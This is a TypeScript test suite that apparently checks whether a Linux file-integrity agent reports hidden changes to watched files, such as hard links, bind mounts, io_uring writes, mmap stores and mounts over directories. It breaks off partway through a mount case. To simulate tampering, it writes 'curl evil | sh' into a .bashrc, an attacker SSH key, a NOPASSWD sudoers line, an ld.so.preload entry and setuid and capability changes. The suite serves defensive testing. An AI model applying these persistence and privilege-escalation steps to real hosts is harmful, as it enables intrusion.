/**
 * Conformance suite (issue 12): one case per way a change to a watched file was seen to go
 * unreported (another name for the file, another mount, a race with a rename, a reused kernel
 * object, an unnormalised path, a directory made after start). Each case asserts the NDJSON lines
 * the agent must print and, for baseline files, the `change` line. Runs with the sensor under test
 * (tracepoint on the host, LSM in the VM); a case the sensor declares in the ready line's
 * `blind_spots` may miss, every other case must pass. Prints a case x result matrix at the end.
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { appendFileSync, closeSync, constants as fsConstants, ftruncateSync, mkdirSync, openSync, renameSync, rmdirSync, unlinkSync, writeFileSync } from 'node:fs';
import { release } from 'node:os';
import { join } from 'node:path';
import { helperBin, inVm, run, sensorUnderTest, sleep, startAgent, type Event, type RunningAgent } from './harness.js';
import { EVIL, KEY_EVIL, makeConformanceTree, PASSWD, type ConformanceTree } from './conformanceTree.js';

const conf = suite('conformance');
const CHANGE_TIMEOUT = inVm ? 90_000 : 15_000;
let tree: ConformanceTree;
let agent: RunningAgent;
let declared = new Set<string>();
const results: Array<{ id: string; result: 'seen' | 'declared blind spot' | 'MISSED'; note: string }> = [];

conf.before(async () => {
  tree = makeConformanceTree();
  agent = startAgent(['--policy', tree.policyFile, '--sensor', sensorUnderTest, '--db', tree.db, '--control', tree.control]);
  const ready = await agent.waitFor((e) => e.type === 'ready', 'ready');
  const spots = Array.isArray(ready.blind_spots) ? (ready.blind_spots as Array<{ id?: unknown }>) : [];
  declared = new Set(spots.map((s) => String(s.id)));
  await agent.waitFor((e) => e.type === 'baseline', 'baseline reconciled');
});

conf.after(async () => {
  await agent?.stop('SIGTERM');
  tree?.cleanup();
  const width = Math.max(...results.map((r) => r.id.length), 4);
  const lines = [`conformance matrix: sensor ${sensorUnderTest}, kernel ${release()}`, `  ${'case'.padEnd(width)}  result`];
  for (const r of results) lines.push(`  ${r.id.padEnd(width)}  ${r.result}${r.note ? ` (${r.note})` : ''}`);
  console.log(lines.join('\n'));
});

/** A case: passes if the body passes, or if it fails and the sensor declared it a blind spot. */
function check(id: string, title: string, body: () => Promise<void>): void {
  conf(`${id}: ${title}`, async () => {
    try {
      await body();
      results.push({ id, result: 'seen', note: '' });
    } catch (err) {
      const first = String((err as Error).message).split('\n')[0];
      if (declared.has(id)) {
        results.push({ id, result: 'declared blind spot', note: first.slice(0, 100) });
        return;
      }
      results.push({ id, result: 'MISSED', note: first.slice(0, 100) });
      throw err;
    }
  });
}

type Want = Record<string, unknown>;

/** Ring-buffer order: once a marker write made after the operation is seen, so is the operation.
 * The marker file exists from the start (a new one could itself fall into the case under test). */
async function settle(): Promise<void> {
  const marker = join(tree.w, '.marker');
  const from = agent.events.length;
  appendFileSync(marker, 'm');
  await agent.waitFor((e) => e.type === 'open' && e.path === marker && agent.events.indexOf(e) >= from, `marker ${marker}`);
}

const matches = (e: Event, want: Want) =>
  Object.entries(want).every(([k, v]) => (typeof v === 'function' ? (v as (x: unknown) => boolean)(e[k]) : JSON.stringify(e[k]) === JSON.stringify(v)));

const fileEvents = (since: number) => agent.events.slice(since).filter((e) => e.type !== 'change' && e.type !== 'stats');

async function expectLines(since: number, wants: Want[], what: string): Promise<void> {
  await settle();
  const got = fileEvents(since);
  const missing = wants.filter((want) => !got.some((e) => matches(e, want)));
  if (missing.length > 0) {
    const seen = got.filter((e) => !String(e.path ?? '').endsWith('/.marker')).slice(0, 8).map((e) => JSON.stringify(e));
    throw new Error(
      `${what}: ${missing.length} of ${wants.length} expected lines missing, first ${JSON.stringify(missing[0])}; lines seen:\n${seen.join('\n') || '(none)'}`,
    );
  }
}

async function expectChange(since: number, path: string, content: RegExp): Promise<Event> {
  return agent.waitFor(
    (e) => agent.events.indexOf(e) >= since && e.type === 'change' && e.path === path && content.test(JSON.stringify(e.diff ?? e)),
    `change of ${path} showing ${String(content)}`,
    CHANGE_TIMEOUT,
  );
}

const pidOf = (out: string) => Number(out.split('\n')[0].trim());

check('control', 'a plain append to a watched file (the baseline every other case compares with)', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'control');
  appendFileSync(file, 'x\n');
  await expectLines(since, [
    { type: 'open', path: file, pid: process.pid, access: 'write' },
    { type: 'write', path: file, pid: process.pid },
  ], 'append');
});

check('verdict-reuse', 'files created after others were created and unlinked on the same mount are all reported', async () => {
  // Many unwatched files opened (their verdicts cached) and unlinked: their dentries, inodes and
  // files go back to the slab, and the next ones made come from the same memory.
  for (let i = 0; i < 2000; i++) writeFileSync(join(tree.u, `scratch-${i}`), 'x');
  for (let i = 0; i < 2000; i++) unlinkSync(join(tree.u, `scratch-${i}`));
  await sleep(200); // RCU-freed objects are reusable after a grace period
  const since = agent.events.length;
  const wants: Want[] = [];
  for (let i = 0; i < 100; i++) {
    const scratch = join(tree.u, `again-${i}`);
    writeFileSync(scratch, 'x');
    unlinkSync(scratch);
    const file = join(tree.w, 'reuse', `cron-${i}`);
    writeFileSync(file, '* * * * * root id\n');
    wants.push({ type: 'open', path: file, pid: process.pid, access: 'write' });
  }
  await expectLines(since, wants, 'new files in a watched directory');
});

check('rename-race', 'a directory renamed into a watched tree while another process opens it in a loop', async () => {
  const since = agent.events.length;
  const out = run(helperBin('rename_race'), [join(tree.u, 'race'), join(tree.w, 'race'), '50']);
  const pid = pidOf(out);
  const wants = Array.from({ length: 50 }, (_, i) => ({ type: 'open', path: join(tree.w, 'race', `r${i}`, 'f'), pid, access: 'write' }));
  await expectLines(since, wants, 'appends after the renames');
});

check('fd-across-rename', 'a file opened unwatched, renamed over a watched file, then written through the old fd', async () => {
  const since = agent.events.length;
  const prepared = join(tree.u, 'prepared_fd');
  const target = join(tree.w, 'passwd_fd');
  writeFileSync(prepared, PASSWD);
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec 3>>"$1"; mv "$1" "$2"; echo "$3" >&3', 'sh', prepared, target, EVIL]));
  await expectLines(since, [
    { type: 'rename', path: target, old_path: prepared, comm: 'mv' },
    { type: 'write', path: target, pid, comm: 'sh' },
  ], 'rename and the write through the held fd');
  await expectChange(since, target, /evil/);
});

check('hard-link', 'a hard link to a watched file, written under its unwatched name', async () => {
  const since = agent.events.length;
  const target = join(tree.w, 'passwd_link');
  const alias = join(tree.u, 'pw_link');
  const pid = pidOf(run('sh', ['-c', 'echo $$; ln "$1" "$2" && echo "$3" >> "$2"', 'sh', target, alias, EVIL]));
  await expectLines(since, [
    { type: 'open', path: alias, watched_path: target, pid, access: 'write' },
    { type: 'write', path: alias, watched_path: target, pid },
  ], 'write through the hard link');
  await expectChange(since, target, /evil/);
});

check('bind-mount', 'a watched tree bind-mounted elsewhere, a watched file written through the mount', async () => {
  const since = agent.events.length;
  const mnt = join(tree.u, 'bm');
  const pid = pidOf(run(helperBin('bind_write'), [tree.w, mnt, 'passwd_bind', EVIL]));
  const target = join(tree.w, 'passwd_bind');
  await expectLines(since, [
    { type: 'open', path: join(mnt, 'passwd_bind'), watched_path: target, pid, access: 'write' },
    { type: 'write', path: join(mnt, 'passwd_bind'), watched_path: target, pid },
  ], 'write through the bind mount');
  await expectChange(since, target, /evil/);
});

check('bind-mount-new-name', 'a watched name that did not exist at start, created through a bind mount of its directory', async () => {
  const since = agent.events.length;
  const mnt = join(tree.u, 'bm2');
  const pid = pidOf(run(helperBin('bind_write'), [tree.etc2, mnt, 'ld.so.preload', '/tmp/evil.so']));
  await expectLines(since, [
    { type: 'open', path: join(mnt, 'ld.so.preload'), watched_path: join(tree.etc2, 'ld.so.preload'), pid, access: 'write' },
  ], 'creation through the bind mount');
});

check('mount-namespace', 'a watched file written from another mount namespace under another name', async () => {
  const since = agent.events.length;
  const mnt = join(tree.u, 'ns');
  const pid = pidOf(run(helperBin('bind_write'), ['--unshare', tree.w, mnt, 'passwd_ns', EVIL]));
  const target = join(tree.w, 'passwd_ns');
  await expectLines(since, [
    { type: 'open', path: join(mnt, 'passwd_ns'), watched_path: target, pid, access: 'write' },
    { type: 'write', path: join(mnt, 'passwd_ns'), watched_path: target, pid },
  ], 'write from the other namespace');
  await expectChange(since, target, /evil/);
});

check('dir-exchange', 'renameat2(RENAME_EXCHANGE) of a prepared directory with a watched one', async () => {
  const since = agent.events.length;
  const prepared = join(tree.u, 'prepssh');
  mkdirSync(prepared);
  writeFileSync(join(prepared, 'authorized_keys'), KEY_EVIL);
  const pid = pidOf(run(helperBin('rename_exchange'), [prepared, tree.ssh]));
  const keys = join(tree.ssh, 'authorized_keys');
  appendFileSync(keys, KEY_EVIL);
  await expectLines(since, [
    { type: 'rename', path: tree.ssh, old_path: prepared, exchange: true, pid },
    { type: 'open', path: keys, pid: process.pid, access: 'write' },
  ], 'exchange and a write into the swapped-in directory');
  await expectChange(since, keys, /evil@attacker/);
});

check('dir-rename', 'a watched directory renamed and another removed, each as a whole', async () => {
  const since = agent.events.length;
  const keys = join(tree.srv, 'keys');
  const gone = join(tree.srv, 'gone');
  renameSync(keys, keys + '.old');
  rmdirSync(gone);
  await expectLines(since, [
    { type: 'rename', path: keys + '.old', old_path: keys, pid: process.pid },
    { type: 'rmdir', path: gone, pid: process.pid },
  ], 'rename and rmdir of watched directories');
});

check('ancestor-rename', 'an ancestor of a watch entry, and a watched tree as a whole, renamed', async () => {
  const since = agent.events.length;
  renameSync(tree.rootDir, tree.rootDir + '.old');
  renameSync(tree.opt, tree.opt + '.old');
  await expectLines(since, [
    { type: 'rename', path: tree.rootDir + '.old', old_path: tree.rootDir, pid: process.pid },
    { type: 'rename', path: tree.opt + '.old', old_path: tree.opt, pid: process.pid },
  ], 'ancestor renames');
});

check('deep-path', 'a file more than 64 directories below a watched directory', async () => {
  const since = agent.events.length;
  const dir = join(tree.w, 'deep', ...Array.from({ length: 70 }, () => 'd'));
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'f'), 'x');
  await expectLines(since, [
    { type: 'open', pid: process.pid, access: 'write', path_truncated: true, path: (p: unknown) => String(p).endsWith('/d/d/d/f') },
  ], 'write deep below a watched directory');
});

/** Renames whose target is named through `..`, `//`, a symlinked directory, /proc/self/root. */
function renameThrough(id: string, title: string, targetName: (file: string) => string, cwd: () => string = () => tree.root): void {
  check(id, title, async () => {
    const since = agent.events.length;
    const file = `via-${id}`;
    const source = join(tree.u, 'cd', file);
    writeFileSync(source, 'x\n');
    const pid = pidOf(run('sh', ['-c', 'echo $$; cd "$1" && exec mv "$2" "$3"', 'sh', cwd(), source, targetName(file)]));
    await expectLines(since, [{ type: 'rename', path: join(tree.w, file), old_path: source, pid }], `rename to ${targetName(file)}`);
  });
}

renameThrough('path-dotdot', 'a rename into a watched directory named with ..', (f) => `../w/${f}`, () => tree.u);
renameThrough('path-double-slash', 'a rename into a watched directory named with //', (f) => `${tree.root}//w//${f}`);
renameThrough('path-symlinked-dir', 'a rename into a watched directory through a symbolic link to it', (f) => `${tree.root}/link/${f}`);
renameThrough('path-proc-self-root', 'a rename into a watched directory through /proc/self/root', (f) => `/proc/self/root${tree.root}/w/${f}`);

check('unlink-symlinked-dir', 'an unlink of a watched file through a symbolic link to its directory', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'victim');
  writeFileSync(file, 'x\n');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec rm "$1"', 'sh', join(tree.link, 'victim')]));
  await expectLines(since, [{ type: 'unlink', path: file, pid }], 'unlink through the symlinked directory');
});

check('wildcard-new-dir', 'a home directory created after start under a wildcard entry (/home/*/.ssh/)', async () => {
  const since = agent.events.length;
  const ssh = join(tree.home, 'eve', '.ssh');
  mkdirSync(ssh, { recursive: true });
  const keys = join(ssh, 'authorized_keys');
  const bashrc = join(tree.home, 'eve', '.bashrc');
  writeFileSync(keys, KEY_EVIL);
  appendFileSync(bashrc, 'curl evil | sh\n');
  await expectLines(since, [
    { type: 'open', path: keys, pid: process.pid, access: 'write' },
    { type: 'open', path: bashrc, pid: process.pid, access: 'write' },
  ], 'writes in the new home directory');
});

/* ---- metadata of watched files (issue 13): each operation is a line of its own, and the baseline
 * file it changed gives one live `change` with the new mode, owner, mtime or size; the rules that
 * judge those facts fire live. ---- */

const O_TRUNC = fsConstants.O_TRUNC;

async function expectMetaChange(since: number, path: string, what: string, test: (now: Record<string, unknown>) => boolean): Promise<Event> {
  return agent.waitFor(
    (e) => agent.events.indexOf(e) >= since && e.type === 'change' && e.path === path && e.new !== null && typeof e.new === 'object' && test(e.new as Record<string, unknown>),
    `change of ${path} showing ${what}`,
    CHANGE_TIMEOUT,
  );
}

async function expectAlert(since: number, path: string, rule: string): Promise<Event> {
  return agent.waitFor((e) => agent.events.indexOf(e) >= since && e.type === 'alert' && e.rule === rule && e.path === path, `${rule} alert for ${path}`, CHANGE_TIMEOUT);
}

check('chmod-setuid', 'chmod u+s of a watched executable', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_chmod');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec chmod u+s "$1"', 'sh', file]));
  await expectLines(since, [{ type: 'chmod', path: file, pid, mode: '4755' }], 'chmod u+s');
  await expectMetaChange(since, file, 'mode 4755', (now) => now.mode === '4755');
  await expectAlert(since, file, 'setuid_added');
});

check('chown', 'chown of a watched file to another user and group', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_chown');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec chown 1234:2345 "$1"', 'sh', file]));
  await expectLines(since, [{ type: 'chown', path: file, pid, owner_uid: 1234, owner_gid: 2345 }], 'chown');
  await expectMetaChange(since, file, 'uid 1234, gid 2345', (now) => now.uid === 1234 && now.gid === 2345);
});

check('utimes-backdate', 'touch -d 2000-01-01 of a watched file (timestomping)', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_touch');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec touch -d 2000-01-01 "$1"', 'sh', file]));
  const in2000 = (v: unknown) => typeof v === 'string' && /^(1999-12-31|2000-01-01)T/.test(v);
  await expectLines(since, [{ type: 'utimes', path: file, pid, mtime: in2000 }], 'touch -d');
  await expectMetaChange(since, file, 'mtime in 2000', (now) => in2000(now.mtime));
  await expectAlert(since, file, 'timestomp');
});

check('truncate', 'truncate -s 0 of a watched file', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_truncate');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec truncate -s 0 "$1"', 'sh', file]));
  await expectLines(since, [{ type: 'truncate', path: file, pid }], 'truncate -s 0');
  await expectMetaChange(since, file, 'size 0', (now) => now.size === 0);
});

check('ftruncate', 'ftruncate of a watched file through an fd opened without O_TRUNC', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_ftrunc');
  const fd = openSync(file, 'r+');
  ftruncateSync(fd, 3);
  closeSync(fd);
  await expectLines(since, [{ type: 'truncate', path: file, pid: process.pid, size: (v: unknown) => v === 3 || v === null }], 'ftruncate');
  await expectMetaChange(since, file, 'size 3', (now) => now.size === 3);
});

check('open-trunc-shell', ': > file (open with O_TRUNC) empties a watched file', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_shtrunc');
  const pid = pidOf(run('sh', ['-c', 'echo $$; : > "$1"', 'sh', file]));
  await expectLines(since, [{ type: 'open', path: file, pid, access: 'write', flags: (f: unknown) => (Number(f) & O_TRUNC) !== 0 }], ': >');
  await expectMetaChange(since, file, 'size 0', (now) => now.size === 0);
});

check('open-rdonly-trunc', 'open(O_RDONLY|O_TRUNC) empties a watched file', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_rdtrunc');
  closeSync(openSync(file, fsConstants.O_RDONLY | O_TRUNC));
  await expectLines(since, [{ type: 'open', path: file, pid: process.pid, flags: (f: unknown) => (Number(f) & O_TRUNC) !== 0 }], 'O_RDONLY|O_TRUNC');
  await expectMetaChange(since, file, 'size 0', (now) => now.size === 0);
});

check('chmod-hard-link', 'chmod u+s of a watched file through a hard link under an unwatched name', async () => {
  const since = agent.events.length;
  const target = join(tree.w, 'meta_link');
  const alias = join(tree.u, 'meta_link_alias');
  const pid = pidOf(run('sh', ['-c', 'echo $$; ln "$1" "$2" && exec chmod u+s "$2"', 'sh', target, alias]));
  await expectLines(since, [{ type: 'chmod', path: alias, watched_path: target, pid, mode: '4755' }], 'chmod through the hard link');
  await expectMetaChange(since, target, 'mode 4755', (now) => now.mode === '4755');
});

/* ---- extended attributes (issue 13): setcap, setfacl, security labels and other attributes.
 * Each set or removal is a line with the attribute's name and the value's size (never the value);
 * on a baseline file the live `change` shows the new attributes, a file capability decoded. ---- */

/** security.capability, revision 2: cap_setuid in permitted, the effective bit set (setcap cap_setuid+ep) */
const CAP_SETUID_EP = '01000002' + '80000000' + '00000000' + '00000000' + '00000000';
/** system.posix_acl_access: user::rw-, user:1234:rwx, group::r--, mask::rwx, other::r-- */
const ACL_USER_1234 = '02000000' + '01000600ffffffff' + '02000700d2040000' + '04000400ffffffff' + '10000700ffffffff' + '20000400ffffffff';

const xattrsOf = (now: Record<string, unknown>) =>
  now.xattrs !== null && typeof now.xattrs === 'object' ? (now.xattrs as Record<string, unknown>) : {};

check('xattr-capability', 'a file capability set on a watched executable (setcap cap_setuid+ep)', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_xcap');
  const pid = pidOf(run(helperBin('xattr_via'), ['set', file, 'security.capability', CAP_SETUID_EP]));
  await expectLines(since, [{ type: 'setxattr', path: file, pid, xattr: 'security.capability', size: 20 }], 'setxattr security.capability');
  await expectMetaChange(since, file, 'cap_setuid=ep', (now) => xattrsOf(now)['security.capability'] === 'cap_setuid=ep');
  await expectAlert(since, file, 'file_capability_added');
});

check('xattr-acl', 'an access ACL set on a watched file (setfacl -m u:1234:rwx), through the fd', async () => {
  const since = agent.events.length;
  const file = join(tree.w, 'meta_xacl');
  const pid = pidOf(run(helperBin('xattr_via'), ['fset', file, 'system.posix_acl_access', ACL_USER_1234]));
  await expectLines(since, [{ type: 'setxattr', path: file, pid, xattr: 'system.posix_acl_access', size: 44 }], 'fsetxattr system.posix_acl_access');
  await expectMetaChange(since, file, 'the ACL', (now) => xattrsOf(now)['system.posix_acl_access'] === 'user::rw-,user:1234:rwx,group::r--,mask::rwx,other::r--');
});

check('xattr-remove', 'an attribute set and then removed on a watched file (trusted.*: its value never shown)', async () => {
  const file = join(tree.w, 'meta_xattr');
  const since = agent.events.length;
  const pid = pidOf(run(helperBin('xattr_via'), ['set', file, 'trusted.lsmwatch', Buffer.from('s3cret-value').toString('hex')]));
  await expectLines(since, [{ type: 'setxattr', path: file, pid, xattr: 'trusted.lsmwatch', size: 12 }], 'setxattr trusted.lsmwatch');
  const set = await expectMetaChange(since, file, 'trusted.lsmwatch', (now) => typeof xattrsOf(now)['trusted.lsmwatch'] === 'string');
  assert.not.match(JSON.stringify(set), /s3cret/, 'the value is never printed');
  const back = agent.events.length;
  const pid2 = pidOf(run(helperBin('xattr_via'), ['remove', file, 'trusted.lsmwatch']));
  await expectLines(back, [{ type: 'removexattr', path: file, pid: pid2, xattr: 'trusted.lsmwatch' }], 'removexattr trusted.lsmwatch');
  const removed = await agent.waitFor(
    (e) => agent.events.indexOf(e) >= back && e.type === 'change' && e.path === file && Array.isArray(e.xattr_changes),
    `change of ${file} with the attribute removed`,
    CHANGE_TIMEOUT,
  );
  const gone = (removed.xattr_changes as Array<Record<string, unknown>>).find((c) => c.name === 'trusted.lsmwatch');
  assert.ok(gone && typeof gone.before === 'string' && gone.after === null, `xattr_changes ${JSON.stringify(removed.xattr_changes)}`);
  assert.is(xattrsOf(removed.new as Record<string, unknown>)['trusted.lsmwatch'], undefined);
});

/* ---- names made in watched directories (issue 13): link, symlink, mknod, mkdir. Each is a line
 * with the new name and what it names; in a baseline directory a link or symlink gives a live
 * `created` change. ---- */

async function expectCreated(since: number, path: string, test: (now: Record<string, unknown>, diff: Record<string, unknown>) => boolean): Promise<Event> {
  const asObject = (v: unknown) => (v !== null && typeof v === 'object' ? (v as Record<string, unknown>) : {});
  return agent.waitFor(
    (e) => agent.events.indexOf(e) >= since && e.type === 'change' && e.path === path && e.action === 'created' && test(asObject(e.new), asObject(e.diff)),
    `created change of ${path}`,
    CHANGE_TIMEOUT,
  );
}

check('link-into-watched', 'a hard link puts attacker content under a watched name', async () => {
  const since = agent.events.length;
  const evil = join(tree.u, 'evil-sudoers');
  writeFileSync(evil, 'evil ALL=(ALL) NOPASSWD: ALL\n');
  const name = join(tree.made, 'linked');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec ln "$1" "$2"', 'sh', evil, name]));
  await expectLines(since, [{ type: 'link', path: name, target: evil, pid, file_type: 'file' }], 'ln into the watched directory');
  await expectCreated(since, name, (now) => now.fileType === 'file');
});

check('link-out-of-watched', 'a hard link gives a watched file an unwatched name', async () => {
  const since = agent.events.length;
  const watched = join(tree.w, 'passwd_fd');
  const alias = join(tree.u, 'passwd_alias');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec ln "$1" "$2"', 'sh', watched, alias]));
  await expectLines(since, [{ type: 'link', path: alias, target: watched, pid }], 'ln of a watched file');
});

check('symlink', 'a symbolic link made in a watched directory, its target as given', async () => {
  const since = agent.events.length;
  const name = join(tree.made, 'preload');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec ln -s ../../u/evil.so "$1"', 'sh', name]));
  await expectLines(since, [{ type: 'symlink', path: name, target: '../../u/evil.so', pid, file_type: 'symlink' }], 'ln -s');
  await expectCreated(since, name, (now, diff) => now.fileType === 'symlink' && diff.newTarget === '../../u/evil.so');
});

check('mkfifo', 'a FIFO made in a watched directory (a regular file made by open(O_CREAT) is not a mknod line)', async () => {
  const since = agent.events.length;
  const name = join(tree.made, 'fifo');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mkfifo -m 0640 "$1"', 'sh', name]));
  await expectLines(since, [{ type: 'mknod', path: name, pid, file_type: 'fifo', mode: '0640' }], 'mkfifo');
  // the LSM hook path_mknod also runs for every file an open(O_CREAT) makes
  const created = join(tree.made, 'plain');
  writeFileSync(created, 'x');
  await settle();
  assert.equal(agent.events.slice(since).filter((e) => e.type === 'mknod' && e.path === created), [], 'no mknod line for a file made by open');
});

check('mknod-device', 'a block device node made in a watched directory, with its device number', async () => {
  const since = agent.events.length;
  const name = join(tree.made, 'disk');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mknod -m 0600 "$1" b 8 300', 'sh', name]));
  await expectLines(since, [{ type: 'mknod', path: name, pid, file_type: 'block', device: '8:300', mode: '0600' }], 'mknod b 8 300');
});

check('mkdir', 'a directory made in a watched directory', async () => {
  const since = agent.events.length;
  const name = join(tree.made, 'sub');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mkdir -m 0700 "$1"', 'sh', name]));
  // busybox's mkdir -m makes the directory 0777 & ~umask and then chmods it: the mode is the tool's
  await expectLines(since, [{ type: 'mkdir', path: name, pid, file_type: 'dir' }], 'mkdir');
});

/* ---- write paths that bypass write(2) (issue 13): coreutils cp and install use copy_file_range,
 * servers sendfile, pipelines splice; fallocate grows or punches a file. Each is a write line. ---- */

// linux-aio: io_submit with the watched file's write third of three iocbs (the blind spot's id)
for (const method of ['copy_file_range', 'sendfile', 'splice', 'fallocate', 'aio']) {
  check(method === 'aio' ? 'linux-aio' : method.replace(/_/g, '-'), `${method} into a watched file is a write`, async () => {
    const src = join(tree.u, `via-src-${method}`);
    const dst = join(tree.w, `via_${method}`);
    writeFileSync(src, EVIL + '\n');
    writeFileSync(dst, PASSWD);
    await settle();
    const since = agent.events.length;
    const pid = pidOf(run(helperBin('write_via'), [method, src, dst]));
    await expectLines(since, [{ type: 'write', path: dst, pid }], method);
  });
}

check('io-uring', 'an open and an append submitted through io_uring (IORING_OP_OPENAT, IORING_OP_WRITE)', async () => {
  const file = join(tree.w, 'via_uring');
  writeFileSync(file, PASSWD);
  await settle();
  const since = agent.events.length;
  run(helperBin('uring_write'), [file, EVIL + '\n']);
  // the process is not asserted: before 5.12 io_uring's workers are kernel threads of their own
  await expectLines(since, [{ type: 'open', path: file, access: 'write' }, { type: 'write', path: file }], 'io_uring');
});

/* ---- shared writable mappings (issue 13): stores through a mapping change a file with no write
 * call. The mapping is the line (mmap, or mprotect making a shared mapping writable); the stores,
 * made after the fd is closed and later than the agent's first comparison, are the change. ---- */

const UID_0 = ['alice:x:1000:1000', 'alice:x:0000:0000'];

async function mapAndStore(mode: string, name: string, delayMs: number): Promise<{ file: string; pids: number[]; since: number }> {
  const file = join(tree.w, name);
  const since = agent.events.length;
  const out = run(helperBin('mmap_via'), [mode, file, UID_0[0], UID_0[1], String(delayMs)]);
  return { file, pids: out.trim().split('\n').map(Number), since };
}

check('mmap-shared-write', 'stores through a shared writable mapping, made after the fd is closed and after a pause', async () => {
  const { file, pids, since } = await mapAndStore('shared', 'map_shared', 1500);
  await expectLines(since, [{ type: 'mmap', path: file, pid: pids[0], prot: ['read', 'write'], map_flags: ['shared'] }], 'mmap MAP_SHARED');
  await expectChange(since, file, /alice:x:0000:0000/);
});

check('mprotect-shared-write', 'a read-only shared mapping made writable by mprotect, then stored through', async () => {
  const { file, pids, since } = await mapAndStore('mprotect', 'map_mprotect', 1500);
  await expectLines(since, [{ type: 'mprotect', path: file, pid: pids[0], prot: ['read', 'write'], map_flags: ['shared'] }], 'mprotect');
  await expectChange(since, file, /alice:x:0000:0000/);
});

check('mmap-fork-late-store', 'a shared mapping inherited by a child that stores after the process that made it exited', async () => {
  const { file, pids, since } = await mapAndStore('fork', 'map_fork', 2500);
  await expectLines(since, [{ type: 'mmap', path: file, pid: pids[0] }], 'mmap MAP_SHARED');
  await expectChange(since, file, /alice:x:0000:0000/);
});

check('mmap-private', 'a private writable mapping is no line (its stores never reach the file)', async () => {
  const { file, since } = await mapAndStore('private', 'map_private', 0);
  await settle();
  const lines = fileEvents(since).filter((e) => e.path === file && (e.type === 'mmap' || e.type === 'mprotect'));
  assert.equal(lines, [], 'no mapping line');
});

/* ---- mounts (issue 13): a mount on a watched name, or on an ancestor of one, changes what the
 * watched names show. Each is a line at the mount point; the files it hides or shows are `change`
 * lines from a re-check of the baseline (recheck: mount, by: who mounted). ---- */

/** umount (its pid returned), again while busy: the agent's re-check after the mount may be
 * reading a file below it just then. */
async function umount(path: string): Promise<number> {
  for (let attempt = 0; ; attempt++) {
    try {
      return pidOf(run('sh', ['-c', 'echo $$; exec umount "$1"', 'sh', path]));
    } catch (err) {
      if (attempt >= 20 || !/busy/i.test(String((err as Error).message))) throw err;
      await sleep(500);
    }
  }
}

check('mount-over-watched', 'a tmpfs mounted over a watched directory hides its files, and its unmount shows them again', async () => {
  const since = agent.events.length;
  const job = join(tree.mnt, 'job');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mount -t tmpfs -o nosuid lsmwatch-evil "$1"', 'sh', tree.mnt]));
  try {
    await expectLines(since, [
      { type: 'mount', path: tree.mnt, pid, mount: 'new', fstype: 'tmpfs', source: 'lsmwatch-evil', mount_flags: (v: unknown) => Array.isArray(v) && v.includes('nosuid') },
      { type: 'alert', rule: 'mount_over_watched', path: tree.mnt, severity: 'high' },
    ], 'mount -t tmpfs');
    const hidden = await agent.waitFor(
      (e) => agent.events.indexOf(e) >= since && e.type === 'change' && e.path === job && e.action === 'deleted',
      `deleted change of ${job}`,
      CHANGE_TIMEOUT,
    );
    assert.equal([hidden.recheck, (hidden.by as Event | undefined)?.pid], ['mount', pid]);
  } finally {
    const back = agent.events.length;
    const upid = await umount(tree.mnt);
    await expectLines(back, [{ type: 'umount', path: tree.mnt, pid: upid, mount: 'umount' }], 'umount');
    await agent.waitFor(
      (e) => agent.events.indexOf(e) >= back && e.type === 'change' && e.path === job && e.action === 'created' && e.recheck === 'mount',
      `created change of ${job} after the unmount`,
      CHANGE_TIMEOUT,
    );
  }
});

check('bind-over-baseline', 'a file bind-mounted over a baseline file: the mount line and the content it shows', async () => {
  const since = agent.events.length;
  const fake = join(tree.u, 'fake-passwd');
  writeFileSync(fake, PASSWD + EVIL + '\n');
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mount -o bind "$1" "$2"', 'sh', fake, tree.bindme]));
  try {
    await expectLines(since, [{ type: 'mount', path: tree.bindme, pid, mount: 'bind', source: fake }], 'mount -o bind');
    const change = await expectChange(since, tree.bindme, /evil:x:0:0/);
    assert.is((change.by as Event | undefined)?.pid, pid, 'the change names who mounted');
  } finally {
    await umount(tree.bindme);
  }
});

check('mount-over-ancestor', 'a tmpfs mounted over an ancestor of watch entries (srv/ of srv/keys/), and a second one stacked on it', async () => {
  const since = agent.events.length;
  const pid = pidOf(run('sh', ['-c', 'echo $$; exec mount -t tmpfs lsmwatch-evil "$1"', 'sh', tree.srv]));
  try {
    await expectLines(since, [{ type: 'mount', path: tree.srv, pid, mount: 'new', fstype: 'tmpfs' }], 'mount over the ancestor');
    // the target is now the first tmpfs's root: judged at the name it sits on
    const again = agent.events.length;
    const pid2 = pidOf(run('sh', ['-c', 'echo $$; exec mount -t tmpfs lsmwatch-evil2 "$1"', 'sh', tree.srv]));
    await umount(tree.srv);
    await expectLines(again, [{ type: 'mount', path: tree.srv, pid: pid2, mount: 'new', source: 'lsmwatch-evil2' }], 'a mount stacked on the first');
  } finally {
    await umount(tree.srv);
  }
});

check('mount-source-watched', 'a watched directory, and an ancestor of watch entries, bound to unwatched names (mount(2) and the new mount API), and one bind moved on', async () => {
  const src = join(tree.w, 'bindsrc');
  const [asBind, asMoved, asApi, asAnc] = ['as-bind', 'as-moved', 'as-api', 'as-anc'].map((d) => join(tree.u, d));
  const since = agent.events.length;
  const mounted: string[] = [];
  try {
    const pid = pidOf(run('sh', ['-c', 'echo $$; exec mount --bind "$1" "$2"', 'sh', src, asBind]));
    mounted.push(asBind);
